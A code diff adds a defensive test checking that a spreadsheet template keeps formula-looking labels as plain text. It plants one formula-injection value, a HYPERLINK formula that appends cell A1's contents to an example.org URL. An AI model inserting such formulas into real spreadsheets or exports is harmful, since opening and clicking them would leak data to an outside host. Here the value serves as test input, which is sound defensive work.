@@ -338,3 +338,22 @@ def test_a_release_that_fails_while_writing_leaves_no_half_release(tmp_path, mon
     # a release folder inside the workspace is refused, as every other output there
     result = CliRunner().invoke(cli, ["release", str(Path(ws) / "out"), "--store", ws])
     assert result.exit_code == 1 and "inside the crimekg workspace" in result.output and not (Path(ws) / "out").exists()
+
+
+def test_a_label_that_looks_like_a_formula_stays_text_in_the_template(tmp_path):
+    """openpyxl writes a text starting with '=' as a formula, which a spreadsheet runs when the
+    template is opened; the template's lists and notes keep every value a text."""
+    import openpyxl
+
+    from crimekg.graph.contributions import Vocabulary
+    from crimekg.graph.template import write_template
+
+    vocab = Vocabulary.bundled()
+    hostile = '=HYPERLINK("http://example.org/?"&A1,"Нигерия")'
+    country = sorted(vocab.countries)[0]
+    vocab.names["place"][country] = hostile
+    out = write_template(tmp_path / "room.xlsx", "xlsx", vocab=vocab)
+    wb = openpyxl.load_workbook(out)
+    cells = [c for row in wb["Lists"].iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)
